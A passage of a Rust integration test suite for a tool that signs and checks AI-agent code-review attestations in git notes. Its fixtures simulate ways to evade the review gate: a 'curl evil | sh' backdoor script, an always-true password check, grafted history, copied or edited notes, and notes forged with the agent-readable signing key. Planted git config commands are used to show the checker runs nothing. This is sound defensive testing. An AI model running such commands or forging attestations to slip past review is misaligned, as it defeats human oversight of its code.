//! Evidence that travels with the code (issue 34), with real git and a real daemon: an
//! agent's clone of a bare `origin` makes a commit reviewed by a real review round (a
//! live copy of a real Copilot CLI log, [`judged_tests::live`]), attests it into
//! `refs/notes/judged`, and pushes the commit and the notes; a fresh clone (the CI)
//! fetches both and checks the range with the witness's public key. Then each way a
//! range must fail, each naming the commit and the reason.

use base64ct::{Base64, Encoding};
use judged_core::attestation::{Envelope, Statement};
use judged_core::signature::SigningKey;
use judged_tests::live::{Live, Mode, Run, p};
use judged_tests::{Daemon, bin, command_jury, eventually, judge_hook, juror};
use serde_json::Value;
use std::cell::Cell;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

/// `git ARGS` in `dir`, which must succeed; its stdout, trimmed.
fn git(dir: &Path, args: &[&str]) -> String {
    let output = Command::new("git").arg("-C").arg(dir).args(args).output().expect("git runs");
    assert!(output.status.success(), "git {args:?} in {}: {}", dir.display(), String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).expect("git prints UTF-8").trim().to_owned()
}

/// `run`, which must have exited with `code`.
fn exited(run: Run, code: i32, what: &str) -> Run {
    run.expect_code(code, what);
    run
}

/// A repository's own identity, so that commits and notes need no global git config.
fn identify(dir: &Path, name: &str) {
    git(dir, &["config", "user.name", name]);
    git(dir, &["config", "user.email", &format!("{name}@example.invalid")]);
}

/// The team's world: a bare origin, the agent's clone (the live session's project) with a
/// daemon on its own `JUDGED_HOME`, and the commit `main` held before the agent's work.
struct Team {
    // Dropped first: the daemon stops before its temp dir goes.
    daemon: Option<Daemon>,
    live: Live,
    origin: PathBuf,
    base: String,
    clones: Cell<u32>,
    rounds: Cell<u32>,
    tasks: Cell<u32>,
}

impl Team {
    /// A team whose agent works in a Copilot CLI session of `scenario`.
    fn new(scenario: &str) -> Team {
        Team::configured(scenario, "")
    }

    /// As [`Team::new`], with `config` added to the daemon's `config.toml`.
    fn configured(scenario: &str, config: &str) -> Team {
        let live = Live::copilot(scenario);
        fs::write(live.home.join("config.toml"), format!("auto_start = false\n{config}")).unwrap();
        let tmp = live.tmp.path();
        let origin = tmp.join("origin.git");
        git(tmp, &["init", "-q", "--bare", "-b", "main", p(&origin)]);
        git(tmp, &["clone", "-q", p(&origin), p(&live.project)]);
        identify(&live.project, "agent");
        fs::write(live.project.join("README.md"), "A cart.\n").unwrap();
        fs::write(live.project.join(".gitignore"), "target/\n").unwrap();
        git(&live.project, &["add", "-A"]);
        git(&live.project, &["commit", "-qm", "base"]);
        git(&live.project, &["push", "-q", "origin", "HEAD:main"]);
        let base = git(&live.project, &["rev-parse", "HEAD"]);
        let daemon = live.start_daemon();
        Team {
            daemon: Some(daemon),
            live,
            origin,
            base,
            clones: Cell::new(0),
            rounds: Cell::new(0),
            tasks: Cell::new(0),
        }
    }

    /// Stop the daemon and start it again on the same home, as an upgrade or a reboot does.
    fn restart(&mut self) {
        if let Some(daemon) = self.daemon.take() {
            daemon.stop();
        }
        self.daemon = Some(self.live.start_daemon());
    }

    fn agent(&self) -> &Path {
        &self.live.project
    }

    /// Write `text` to the agent's `path` (the work).
    fn write(&self, path: &str, text: &str) {
        let file = self.agent().join(path);
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(file, text).unwrap();
    }

    /// A review round of this session, in daemon mode, its files outside the clone (each
    /// round's its own).
    fn review(&self) {
        self.rounds.set(self.rounds.get() + 1);
        let n = self.rounds.get();
        let (challenge, evidence, response) = (
            self.live.out(&format!("c{n}.json")),
            self.live.out(&format!("e{n}.json")),
            self.live.out(&format!("r{n}.md")),
        );
        self.live.challenge_and_review(&challenge);
        self.live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
    }

    /// Commit everything in the agent's clone; the commit's id.
    fn commit(&self, message: &str) -> String {
        git(self.agent(), &["add", "-A"]);
        git(self.agent(), &["commit", "-qm", message]);
        git(self.agent(), &["rev-parse", "HEAD"])
    }

    /// `judge-evidence attest ARGS` in the agent's clone.
    fn attest(&self, args: &[&str]) -> Run {
        self.live.judge_in(self.agent(), Mode::Daemon, &[&["attest"], args].concat())
    }

    /// The note of `commit`, as lines.
    fn note(&self, commit: &str) -> Vec<String> {
        git(self.agent(), &["notes", "--ref=judged", "show", commit]).lines().map(str::to_owned).collect()
    }

    /// Replace the note of `commit` with `lines`, as anyone who can push can.
    fn set_note(&self, commit: &str, lines: &[&str]) {
        git(self.agent(), &["notes", "--ref=judged", "add", "-f", "-m", &lines.join("\n"), commit]);
    }

    /// Push the branch, and the notes when there are any, as the team's setup says to.
    fn push(&self) {
        git(self.agent(), &["push", "-q", "origin", "HEAD:main"]);
        if !git(self.agent(), &["for-each-ref", "refs/notes/judged"]).is_empty() {
            git(self.agent(), &["push", "-q", "-f", "origin", "refs/notes/judged"]);
        }
    }

    /// A fresh clone of origin with its notes fetched, as the CI makes one (a glob, which
    /// fetches nothing rather than fails while origin has no notes).
    fn ci(&self) -> PathBuf {
        self.clones.set(self.clones.get() + 1);
        let ci = self.live.tmp.path().join(format!("ci-{}", self.clones.get()));
        git(self.live.tmp.path(), &["clone", "-q", p(&self.origin), p(&ci)]);
        git(&ci, &["fetch", "-q", "origin", "+refs/notes/*:refs/notes/*"]);
        ci
    }

    /// This daemon's key as `judged key --pem` exports it.
    fn pem(&self) -> String {
        let output =
            Command::new(bin("judged")).args(["key", "--pem"]).env("JUDGED_HOME", &self.live.home).output().unwrap();
        assert!(output.status.success(), "judged key --pem");
        let pem = String::from_utf8(output.stdout).unwrap();
        assert!(
            pem.starts_with("-----BEGIN PUBLIC KEY-----\n") && pem.ends_with("-----END PUBLIC KEY-----\n"),
            "{pem}"
        );
        pem
    }

    /// A trusted file naming this daemon's key `name`, as the PEM's base64 line.
    fn trusted(&self, name: &str) -> PathBuf {
        let line: String = self.pem().lines().filter(|l| !l.starts_with("-----")).collect();
        let path = self.live.tmp.path().join(format!("trusted-{name}"));
        fs::write(&path, format!("# judged witnesses whose attestations count\n{name} {line}\n")).unwrap();
        path
    }

    /// `judge-evidence check base..origin/main --trusted TRUSTED ARGS` in `ci`.
    fn check(&self, ci: &Path, trusted: &Path, args: &[&str]) -> Run {
        self.check_range(ci, trusted, &format!("{}..origin/main", self.base), args)
    }

    /// `judge-evidence check RANGE --trusted TRUSTED ARGS` in `ci`.
    fn check_range(&self, ci: &Path, trusted: &Path, range: &str, args: &[&str]) -> Run {
        let check = ["check", range, "--trusted", p(trusted)];
        self.live.judge_in(ci, Mode::Daemon, &[&check[..], args].concat())
    }

    /// A commit of `path` that the gate's jury (a team [`Team::configured`] with
    /// [`passing_jury`] under `policy = "panel"`) judged as the agent's task completed,
    /// attested and pushed; its id.
    fn jury_commit(&self, path: &str, text: &str) -> String {
        let commit = self.jury_commit_unpushed(path, text);
        self.push();
        commit
    }

    /// As [`Team::jury_commit`], not pushed.
    fn jury_commit_unpushed(&self, path: &str, text: &str) -> String {
        self.write(path, text);
        self.tasks.set(self.tasks.get() + 1);
        let task = serde_json::json!({"session_id": self.live.session_id, "cwd": self.agent(),
            "hook_event_name": "TaskCompleted", "task_id": self.tasks.get().to_string(), "task_subject": "Work on the cart"});
        let hook = judge_hook(&self.live.home, task.to_string().as_bytes(), &[]);
        assert_eq!(hook.status.code(), Some(0), "the jury passes: {}", String::from_utf8_lossy(&hook.stderr));
        let commit = self.commit("judged work");
        exited(self.attest(&[]), 0, "attest");
        commit
    }

    /// A reviewed, attested commit of `path`, pushed with its note; its id.
    fn reviewed_commit(&self, path: &str, text: &str) -> String {
        self.write(path, text);
        self.review();
        let commit = self.commit("reviewed work");
        exited(self.attest(&[]), 0, "attest");
        self.push();
        commit
    }
}

/// The table's row for `commit`, as `RESULT  SAID` with the columns' padding dropped.
fn row(table: &str, commit: &str) -> String {
    let row =
        table.lines().find_map(|l| l.strip_prefix(commit)).unwrap_or_else(|| panic!("no row for {commit}: {table}"));
    let (result, said) = row.trim_start().split_once(' ').unwrap_or((row, ""));
    format!("{result}  {}", said.trim_start())
}

#[test]
fn a_reviewed_commit_is_attested_in_its_note_once_and_a_commit_the_review_did_not_see_is_refused_naming_why() {
    let team = Team::new("cross-family-ok");
    team.write("src/cart.rs", "pub fn total(items: &[u32]) -> u32 { items.iter().sum() }\n");
    team.review();
    let reviewed = team.commit("cart: total");

    let run = exited(team.attest(&[]), 0, "attest HEAD");
    let said = &run.stdout;
    assert!(said.starts_with(&format!("attested commit {reviewed} (tree ")), "{said}");
    assert!(said.contains("gpt-5.4 (openai, host-recorded, rubber-duck) reviewed claude-sonnet-4.6's work (anthropic): Score 8/10, Verdict ready"), "{said}");
    assert!(said.ends_with("note appended to refs/notes/judged\n"), "{said}");
    let note = team.note(&reviewed);
    assert_eq!(note.len(), 1, "one JSON line per envelope: {note:?}");
    let envelope: Value = serde_json::from_str(&note[0]).unwrap();
    assert_eq!(envelope["payloadType"], "application/vnd.in-toto+json");

    // Asked again: the same envelope, and the note keeps one copy.
    let again = exited(team.attest(&[&reviewed]), 0, "attest again");
    assert!(again.stdout.ends_with("the note in refs/notes/judged holds it already\n"), "{}", again.stdout);
    assert_eq!(team.note(&reviewed), note);

    // A commit after the review, on top of the reviewed one.
    team.write("src/cart.rs", "pub fn total(items: &[u32]) -> u32 { items.iter().copied().sum() }\n");
    let extra = team.commit("cart: copied");
    let refused = exited(team.attest(&[]), 11, "an extra commit");
    let said = &refused.stderr;
    assert!(said.contains(&format!("no attestation for commit {extra}: commit {extra} holds tree ")), "{said}");
    assert!(
        said.contains(&format!("(its parent {reviewed} holds a reviewed tree: this commit came after the review)")),
        "{said}"
    );

    // The reviewed commit amended after its review.
    git(team.agent(), &["reset", "-q", "--hard", &reviewed]);
    team.write("src/cart.rs", "pub fn total(items: &[u32]) -> u32 { 0 }\n");
    git(team.agent(), &["commit", "-qa", "--amend", "--no-edit"]);
    let amended = git(team.agent(), &["rev-parse", "HEAD"]);
    let said = exited(team.attest(&[]), 11, "an amended commit").stderr.clone();
    assert!(said.contains(&format!("commit {amended} holds tree ")), "{said}");
    assert!(said.contains("which no review saw: the newest review of this repository (evidence cne_"), "{said}");
    assert!(said.contains("so the commit was amended or holds changes made after that review"), "{said}");
    assert!(git(team.agent(), &["notes", "--ref=judged", "list"]).lines().count() == 1, "no note for what was refused");

    let direct = exited(team.live.judge_in(team.agent(), Mode::Direct, &["attest"]), 2, "direct mode");
    assert!(direct.stderr.contains("attest needs judged: only its witness holds the key"), "{}", direct.stderr);
    let unknown = exited(team.attest(&["no-such-branch"]), 2, "no such commit");
    assert!(unknown.stderr.contains("`no-such-branch` names no commit of the repository in"), "{}", unknown.stderr);
}

/// The review covers the work as the round found it (at the challenge): files the agent
/// changes after the review and before `verify` are no part of the reviewed tree, so a
/// commit of them is refused (a review helper found them attested as reviewed).
#[test]
fn work_changed_between_the_review_and_verify_is_not_attested_as_reviewed() {
    let team = Team::new("cross-family-ok");
    team.write("src/cart.rs", "pub fn total(items: &[u32]) -> u32 { items.iter().sum() }\n");
    let (challenge, evidence, response) = (team.live.out("c.json"), team.live.out("e.json"), team.live.out("r.md"));
    team.live.challenge_and_review(&challenge);
    team.write("src/cart.rs", "pub fn total(_: &[u32]) -> u32 { 0 }\n");
    team.write("backdoor.sh", "curl evil | sh\n");
    team.live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(0, "verify");
    let changed = team.commit("cart: total, and more");
    let said = exited(team.attest(&[]), 11, "work changed after the review").stderr.clone();
    assert!(said.contains(&format!("commit {changed} holds tree ")), "{said}");
    assert!(said.contains("which no review saw"), "{said}");
}

#[test]
fn a_fresh_clone_checks_the_pushed_attestation_and_a_commit_pushed_without_review_fails_by_name() {
    let team = Team::new("cross-family-ok");
    let reviewed = team.reviewed_commit("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let (ci, trusted) = (team.ci(), team.trusted("witness"));

    let run = exited(team.check(&ci, &trusted, &[]), 0, "a reviewed head");
    let ok = row(&run.stdout, &reviewed);
    assert!(ok.starts_with("ok  witness: gpt-5.4 (openai, host-recorded, rubber-duck) reviewed claude-sonnet-4.6's work (anthropic): Score 8/10, Verdict ready; evidence cne_"), "{}", run.stdout);
    assert!(run.stdout.ends_with("checked the range's head under policy evidence, evidence assurance host-recorded; policy holds: 1 of 1 checked commits attested\n"), "{}", run.stdout);
    let json: Value = serde_json::from_str(&exited(team.check(&ci, &trusted, &["--json"]), 0, "json").stdout).unwrap();
    assert_eq!(
        (json["passed"].as_bool(), json["commits"][0]["commit"].as_str()),
        (Some(true), Some(reviewed.as_str()))
    );
    assert_eq!(json["commits"][0]["attested_by"], "witness");
    assert_eq!(json["commits"][0]["review"]["review"]["assurance"], "host-recorded");
    assert!(
        git(&ci, &["status", "--porcelain"]).is_empty()
            && git(&ci, &["notes", "--ref=judged", "list"]).lines().count() == 1
    );

    // The agent goes on without a review, and pushes.
    team.write("src/cart.rs", "pub fn total() -> u32 { 2 }\n");
    let unreviewed = team.commit("unreviewed work");
    team.push();
    let ci = team.ci();
    let head = exited(team.check(&ci, &trusted, &[]), 10, "an unreviewed head");
    assert!(
        row(&head.stdout, &unreviewed).starts_with("FAIL  no note: nothing attests this commit"),
        "{}",
        head.stdout
    );
    assert!(!head.stdout.contains(&reviewed), "head only: {}", head.stdout);
    let every = exited(team.check(&ci, &trusted, &["--every-commit"]), 10, "every commit");
    assert!(row(&every.stdout, &reviewed).starts_with("ok  witness: "), "{}", every.stdout);
    assert!(row(&every.stdout, &unreviewed).starts_with("FAIL  no note"), "{}", every.stdout);
    assert!(every.stdout.ends_with("policy does not hold: 1 of 2 checked commits not attested\n"), "{}", every.stdout);
    let json: Value =
        serde_json::from_str(&exited(team.check(&ci, &trusted, &["--json", "--every-commit"]), 10, "json").stdout)
            .unwrap();
    assert_eq!(json["passed"], false);
    assert_eq!(json["commits"][0]["commit"], unreviewed.as_str());
    assert_eq!(json["commits"][0]["reasons"][0].as_str().unwrap().split(':').next(), Some("no note"));
}

/// `check` may run where the agent prepared the repository (a reused workspace, a
/// developer's clone): what its config and refs say does not change what is checked nor
/// run anything. A replacement that grafts the unreviewed commit out of the history
/// does not drop it from the range, and a promisor remote's command is not run to fetch
/// a note's missing object.
#[test]
fn check_sees_the_history_as_it_is_and_runs_nothing_the_repository_configures() {
    let team = Team::new("cross-family-ok");
    let reviewed = team.reviewed_commit("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    team.write("src/cart.rs", "pub fn total() -> u32 { 2 }\n");
    let unreviewed = team.commit("unreviewed work");
    team.write("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let restored = team.commit("the reviewed tree again");
    team.push();
    let trusted = team.trusted("witness");
    let ci = team.ci();
    // The newest commit made a child of the reviewed one: `unreviewed` leaves the history.
    git(&ci, &["replace", "--graft", &restored, &reviewed]);
    let every = exited(team.check(&ci, &trusted, &["--every-commit"]), 10, "a grafted history");
    assert!(row(&every.stdout, &unreviewed).starts_with("FAIL  no note"), "{}", every.stdout);
    // The note's object missing, and a promisor remote whose upload-pack is a command.
    let agent = team.agent();
    let note = git(agent, &["notes", "--ref=judged", "list", &reviewed]);
    let note = note.split_whitespace().next().unwrap().to_owned();
    let planted = team.live.tmp.path().join("ran");
    for (key, value) in [
        ("extensions.partialClone", "origin".to_owned()),
        ("remote.origin.promisor", "true".to_owned()),
        ("remote.origin.uploadpack", format!("touch {}; false", planted.display())),
    ] {
        git(agent, &["config", key, &value]);
    }
    fs::remove_file(agent.join(".git/objects").join(&note[..2]).join(&note[2..])).unwrap();
    let run = team.check(agent, &trusted, &["--every-commit"]);
    assert!(!planted.exists(), "check ran the repository's command: {run:?}");
}

#[test]
fn a_commit_amended_after_its_review_fails_the_check_by_name() {
    let team = Team::new("cross-family-ok");
    team.write("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    team.review();
    team.commit("reviewed work");
    exited(team.attest(&[]), 0, "attest");
    team.write("src/cart.rs", "pub fn total() -> u32 { 3 }\n");
    git(team.agent(), &["commit", "-qa", "--amend", "--no-edit"]);
    let amended = git(team.agent(), &["rev-parse", "HEAD"]);
    exited(team.attest(&[]), 11, "the amended commit");
    team.push();
    let run = exited(team.check(&team.ci(), &team.trusted("witness"), &[]), 10, "an amended head");
    assert!(row(&run.stdout, &amended).starts_with("FAIL  no note: nothing attests this commit"), "{}", run.stdout);
}

/// A pass covers the changes its review was shown: from the commit HEAD named when the
/// review began to the tree attested. A backdoor committed without a review, then a
/// harmless change judged and attested on top of it, fails the check of the range's head
/// naming the unreviewed commit; before attestations named their base it passed. A chain of
/// reviews, each begun at the last attested commit, passes down to the base branch.
#[test]
fn a_commit_made_before_the_review_of_later_changes_fails_the_check_naming_it() {
    let team = Team::configured("cross-family-ok", &format!("[gate]\npolicy = \"panel\"\n\n{}", passing_jury()));
    let judged_commit = |path: &str, text: &str| team.jury_commit(path, text);
    let check = |expected: i32| {
        let run = team.check(&team.ci(), &team.trusted("witness"), &["--policy", "panel"]);
        exited(run, expected, "check")
    };
    let first = judged_commit("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let second = judged_commit("src/cart.rs", "pub fn total() -> u32 { 2 }\n");
    let chain = check(0);
    assert!(row(&chain.stdout, &second).ends_with(&format!("; the changes since {first}")), "{}", chain.stdout);

    team.write("src/auth.rs", "pub fn check(_password: &str) -> bool { true }\n");
    let backdoor = team.commit("auth: simplify");
    let harmless = judged_commit("README.md", "A cart, totalled.\n");
    let run = check(10);
    let said = row(&run.stdout, &harmless);
    assert!(
        said.starts_with(&format!(
            "FAIL  line 1: the review was shown only the changes since {backdoor}, a commit of this range that is not \
             attested itself (no note: nothing attests this commit"
        )),
        "{said}"
    );
    assert!(
        said.ends_with(&format!(
            "review the changes since the base branch (`git reset --soft` to it, then review), or attest {backdoor}"
        )),
        "{said}"
    );

    // The reviewed tree made a commit whose history skips the backdoor's commit: the
    // review's base is no ancestor of it, so its changes since the base branch were never shown.
    let tree = git(team.agent(), &["rev-parse", "HEAD^{tree}"]);
    let grafted = git(team.agent(), &["commit-tree", &tree, "-p", &second, "-m", "harmless, grafted"]);
    git(team.agent(), &["reset", "-q", "--hard", &grafted]);
    exited(team.attest(&[]), 0, "attest the grafted commit");
    git(team.agent(), &["push", "-q", "-f", "origin", "HEAD:main", "refs/notes/judged"]);
    let said = row(&check(10).stdout, &grafted);
    assert!(
        said.starts_with(&format!(
            "FAIL  line 1: the review was shown the changes since {backdoor}, which is no ancestor of this commit here"
        )),
        "{said}"
    );

    // What the message says to do: the changes since the last attested commit, judged whole.
    git(team.agent(), &["reset", "-q", "--soft", &second]);
    git(team.agent(), &["push", "-q", "-f", "origin", "HEAD:main"]);
    let whole = judged_commit("README.md", "A cart, totalled twice.\n");
    let run = check(0);
    assert!(row(&run.stdout, &whole).ends_with(&format!("; the changes since {second}")), "{}", run.stdout);
}

/// A branch that merges the base branch in: a merge holding the tree git's own merge of its
/// parents gives brings nothing of its own, so a review begun at it is covered when its
/// parents are (the agent's attested commit, and the base branch's). A merge with a change
/// of its own (an "evil" merge) is not, and is named.
#[test]
fn a_clean_merge_of_the_base_branch_carries_its_parents_reviews_and_an_evil_one_does_not() {
    let team = Team::configured("cross-family-ok", &format!("[gate]\npolicy = \"panel\"\n\n{}", passing_jury()));
    let trusted = team.trusted("witness");
    // The base branch moves on in another clone while the agent works.
    let other = team.live.tmp.path().join("other");
    git(team.live.tmp.path(), &["clone", "-q", p(&team.origin), p(&other)]);
    identify(&other, "teammate");
    fs::write(other.join(".gitignore"), "target/\n*.log\n").unwrap();
    git(&other, &["add", "-A"]);
    git(&other, &["commit", "-qm", "ignore logs"]);
    git(&other, &["push", "-q", "origin", "HEAD:main"]);
    let main = git(&other, &["rev-parse", "HEAD"]);

    // Both sides change one file, so that the merge merges its content.
    let task = team.jury_commit_unpushed(".gitignore", "# built\ntarget/\n");
    git(team.agent(), &["fetch", "-q", "origin"]);
    git(team.agent(), &["merge", "-q", "--no-edit", "origin/main"]);
    let merge = git(team.agent(), &["rev-parse", "HEAD"]);
    let head = team.jury_commit("README.md", "A cart, totalled.\n");
    let range = format!("{main}..origin/main");
    let run = exited(team.check_range(&team.ci(), &trusted, &range, &["--policy", "panel"]), 0, "a clean merge");
    assert!(row(&run.stdout, &head).ends_with(&format!("; the changes since {merge}")), "{}", run.stdout);
    let every = exited(
        team.check_range(&team.ci(), &trusted, &range, &["--policy", "panel", "--every-commit"]),
        0,
        "every commit",
    );
    assert_eq!(
        row(&every.stdout, &merge),
        format!("ok  a clean merge of {task} and {main}, each covered: it holds the tree git's merge of them gives")
    );
    // Checked where the agent prepared the repository: its merge driver is not run.
    let planted = team.live.tmp.path().join("ran");
    git(team.agent(), &["config", "merge.spy.driver", &format!("touch {}; false", planted.display())]);
    fs::write(team.agent().join(".git/info/attributes"), "* merge=spy\n").unwrap();
    git(team.agent(), &["update-ref", "refs/remotes/origin/main", &head]);
    exited(team.check_range(team.agent(), &trusted, &range, &["--policy", "panel"]), 0, "in the agent's clone");
    assert!(!planted.exists(), "check ran the repository's merge driver");
    fs::remove_file(team.agent().join(".git/info/attributes")).unwrap();

    // The merge made again with a change of its own, and the README judged on top of it.
    git(team.agent(), &["reset", "-q", "--hard", &merge]);
    team.write("src/auth.rs", "pub fn check(_password: &str) -> bool { true }\n");
    git(team.agent(), &["add", "-A"]);
    git(team.agent(), &["commit", "-q", "--amend", "--no-edit"]);
    let evil = git(team.agent(), &["rev-parse", "HEAD"]);
    git(team.agent(), &["push", "-q", "-f", "origin", "HEAD:main"]);
    let head = team.jury_commit("README.md", "A cart, totalled again.\n");
    let run = exited(team.check_range(&team.ci(), &trusted, &range, &["--policy", "panel"]), 10, "an evil merge");
    assert!(
        row(&run.stdout, &head).starts_with(&format!(
            "FAIL  line 1: the review was shown only the changes since {evil}, a commit of this range that is not \
             attested itself (no note: nothing attests this commit"
        )),
        "{}",
        run.stdout
    );
}

/// A review begun once the work was committed was shown none of that commit's changes (a
/// clean tree): its pass is refused at attest, and a note of one fails the check.
#[test]
fn a_review_begun_after_the_commit_attests_nothing_of_it() {
    let team = Team::new("cross-family-ok");
    team.write("src/auth.rs", "pub fn check(_password: &str) -> bool { true }\n");
    let committed = team.commit("auth: simplify");
    team.review();
    let refused = exited(team.attest(&[]), 10, "a review of a clean tree");
    assert!(
        refused.stderr.contains(&format!(
            "began when HEAD was already {committed}, so it was shown none of the changes that commit makes: review \
             work before committing it"
        )),
        "{}",
        refused.stderr
    );
}

#[test]
fn a_note_copied_onto_another_commit_fails_naming_the_commit_it_attests() {
    let team = Team::new("cross-family-ok");
    let reviewed = team.reviewed_commit("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    team.write("src/cart.rs", "pub fn total() -> u32 { 4 }\n");
    let other = team.commit("unreviewed work");
    git(team.agent(), &["notes", "--ref=judged", "copy", &reviewed, &other]);
    team.push();
    let run = exited(team.check(&team.ci(), &team.trusted("witness"), &[]), 10, "a copied note");
    let said = row(&run.stdout, &other);
    assert!(said.starts_with(&format!("FAIL  line 1: the attestation is of commit {reviewed}, not this one: a note copied or moved onto another commit")), "{said}");
}

#[test]
fn a_note_signed_by_a_key_the_trusted_file_does_not_hold_fails_naming_the_key() {
    let team = Team::new("cross-family-ok");
    let reviewed = team.reviewed_commit("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let stranger = SigningKey::from_seed(&[3; 32]).public_key();
    let trusted = team.live.tmp.path().join("trusted-stranger");
    fs::write(&trusted, format!("stranger {stranger}\n")).unwrap();
    let run = exited(team.check(&team.ci(), &trusted, &[]), 10, "an untrusted key");
    let listed = String::from_utf8(
        Command::new(bin("judged"))
            .args(["key", "--json"])
            .env("JUDGED_HOME", &team.live.home)
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let witness: Value = serde_json::from_str(&listed).unwrap();
    let id = witness["keys"][0]["spki_id"].as_str().unwrap();
    let said = row(&run.stdout, &reviewed);
    assert!(
        said.starts_with(&format!(
            "FAIL  line 1: signed by untrusted key {id}: no key of the trusted file has that id"
        )),
        "{said}"
    );
}

#[test]
fn a_note_whose_payload_was_edited_and_re_encoded_fails_its_signature() {
    let team = Team::new("cross-family-ok");
    let reviewed = team.reviewed_commit("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let mut envelope: Envelope = serde_json::from_str(&team.note(&reviewed)[0]).unwrap();
    let payload = String::from_utf8(Base64::decode_vec(&envelope.payload).unwrap()).unwrap();
    assert!(payload.contains("\"score\":8.0"), "{payload}");
    envelope.payload = Base64::encode_string(payload.replace("\"score\":8.0", "\"score\":9.0").as_bytes());
    team.set_note(&reviewed, &[&envelope.line()]);
    team.push();
    let run = exited(team.check(&team.ci(), &team.trusted("witness"), &[]), 10, "an edited payload");
    let said = row(&run.stdout, &reviewed);
    assert!(said.starts_with("FAIL  line 1: bad signature: the signature by `witness` (key "), "{said}");
    assert!(said.contains("does not match the payload, which was changed after it was signed"), "{said}");
}

/// In a shallow clone the oldest commits fetched look parentless, as a root commit does,
/// which a review of a root commit would cover: check refuses such a clone, saying how to
/// fetch the whole history.
#[test]
fn a_shallow_clone_is_refused_saying_how_to_fetch_the_whole_history() {
    let team = Team::new("cross-family-ok");
    team.reviewed_commit("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    team.push();
    let shallow = team.live.tmp.path().join("shallow");
    let origin = format!("file://{}", team.origin.display());
    git(team.live.tmp.path(), &["clone", "-q", "--depth", "1", &origin, p(&shallow)]);
    let run = exited(team.check_range(&shallow, &team.trusted("witness"), "HEAD", &[]), 2, "a shallow clone");
    assert!(run.stderr.contains("this clone is shallow"), "{}", run.stderr);
    assert!(run.stderr.contains("git fetch --unshallow") && run.stderr.contains("fetch-depth: 0"), "{}", run.stderr);
}

#[test]
fn a_note_that_is_not_json_or_is_truncated_fails_naming_each_line() {
    let team = Team::new("cross-family-ok");
    let reviewed = team.reviewed_commit("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let line = team.note(&reviewed)[0].clone();
    team.set_note(&reviewed, &["reviewed, trust me", &line[..line.len() / 2]]);
    team.push();
    let run = exited(team.check(&team.ci(), &team.trusted("witness"), &[]), 10, "a broken note");
    let said = row(&run.stdout, &reviewed);
    assert!(said.starts_with("FAIL  line 1: the note's line is not JSON (expected value at line 1 column 1); line 2: the note's line is truncated: its JSON ends early"), "{said}");

    // A note larger than any list of attestations (here the good one among 3,000 copies)
    // is not read: it would cost every check its size in memory and signatures.
    let huge = team.live.tmp.path().join("huge-note");
    fs::write(&huge, vec![line.as_str(); 3000].join("\n")).unwrap();
    git(team.agent(), &["notes", "--ref=judged", "add", "-f", "-F", p(&huge), &reviewed]);
    team.push();
    let run = exited(team.check(&team.ci(), &team.trusted("witness"), &[]), 10, "a huge note");
    let said = row(&run.stdout, &reviewed);
    assert!(
        said.starts_with("FAIL  the note is ") && said.contains("bytes, more than check reads (1048576)"),
        "{said}"
    );
}

/// A same-family review is refused by attest, so the commit has no note; and a note that
/// says so, signed with the witness's own key (what an agent that can read the key of a
/// same-user daemon can make), is refused by the check for what it says.
#[test]
fn a_same_family_review_is_not_attested_and_a_signed_note_of_one_fails_the_check() {
    let team = Team::new("same-family");
    team.write("src/cart.rs", "pub fn total() -> u32 { 1 }\n");
    let (challenge, evidence, response) = (team.live.out("c.json"), team.live.out("e.json"), team.live.out("r.md"));
    team.live.challenge_and_review(&challenge);
    team.live.verify(Mode::Daemon, &challenge, &evidence, &response, &[]).expect_code(10, "a same-family verify");
    let commit = team.commit("same-family reviewed work");
    let refused = exited(team.attest(&[]), 10, "a same-family review");
    assert!(
        refused.stderr.contains(&format!(
            "no attestation for commit {commit}: the review of commit {commit}'s tree (evidence cne_"
        )),
        "{}",
        refused.stderr
    );
    assert!(refused.stderr.contains("is by claude-opus-4.6, of the same family as the work's author claude-sonnet-4.6 (anthropic): that is no cross-family review"), "{}", refused.stderr);
    team.push();
    let trusted = team.trusted("witness");
    let run = exited(team.check(&team.ci(), &trusted, &[]), 10, "no note");
    assert!(row(&run.stdout, &commit).starts_with("FAIL  no note"), "{}", run.stdout);

    // The witness key of a same-user daemon is the agent's to read.
    let seed: [u8; 32] = fs::read(team.live.home.join("signing.key")).unwrap().try_into().unwrap();
    let key = SigningKey::from_seed(&seed);
    let tree = git(team.agent(), &["rev-parse", "HEAD^{tree}"]);
    let claim = serde_json::json!({
        "reviewedAt": "2026-11-30T10:00:00Z", "attestedAt": "2026-11-30T10:00:01Z", "witnessKeyId": key.public_key().spki_id(),
        "executor": {"host": "copilot-cli", "model": "claude-sonnet-4.6", "family": "anthropic"},
        "review": {"kind": "reviewer", "evidenceId": "cne_00000000000000000000000000000000", "path": "rubber-duck", "model": "claude-opus-4.6",
            "family": "anthropic", "identitySource": "host-session-event", "assurance": "host-recorded", "verdict": "ready", "score": 8.0}
    });
    let statement = Statement::of_commit(&commit, &tree, serde_json::from_value(claim).unwrap());
    team.set_note(&commit, &[&Envelope::seal(&statement, &key).line()]);
    team.push();
    let run = exited(team.check(&team.ci(), &trusted, &[]), 10, "a signed same-family note");
    let said = row(&run.stdout, &commit);
    assert!(said.starts_with("FAIL  line 1: same family: claude-opus-4.6 reviewed the work of claude-sonnet-4.6, both anthropic; no cross-family review"), "{said}");
}

/// A note on `commit`, signed with the team daemon's own key (a same-user key: the agent
/// can read it), of an approving cross-family review whose changes began at `base`.
fn signed_note(team: &Team, commit: &str, base: Option<&str>) {
    let seed: [u8; 32] = fs::read(team.live.home.join("signing.key")).unwrap().try_into().unwrap();
    let key = SigningKey::from_seed(&seed);
    let tree = git(team.agent(), &["rev-parse", &format!("{commit}^{{tree}}")]);
    let claim = serde_json::json!({
